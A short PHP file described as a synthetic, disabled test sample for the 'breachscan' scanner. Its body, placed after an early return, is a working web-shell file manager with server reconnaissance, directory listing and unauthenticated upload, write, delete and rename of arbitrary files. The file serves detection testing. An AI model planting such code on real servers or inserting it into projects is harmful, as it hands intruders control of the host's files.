<?php
// synthetic test sample for breachscan: file manager with server reconnaissance
// (uname, owner, disabled functions), browsing, upload, edit, rename and delete. Disabled.
return;
$dir = isset($_REQUEST['dir']) ? $_REQUEST['dir'] : getcwd();
echo php_uname() . ' / ' . get_current_user() . ' / ' . ini_get('disable_functions');
foreach (scandir($dir) as $e) {
    $o = posix_getpwuid(fileowner("$dir/$e"));
    echo $e . ' ' . substr(sprintf('%o', fileperms("$dir/$e")), -4) . ' ' . $o['name'] . "<br>";
}
if (isset($_FILES['u'])) move_uploaded_file($_FILES['u']['tmp_name'], "$dir/" . basename($_FILES['u']['name']));
if (isset($_POST['save'])) file_put_contents($_POST['path'], $_POST['body']);
if (isset($_GET['del'])) unlink($_GET['del']);
if (isset($_POST['from'])) rename($_POST['from'], $_POST['to']);
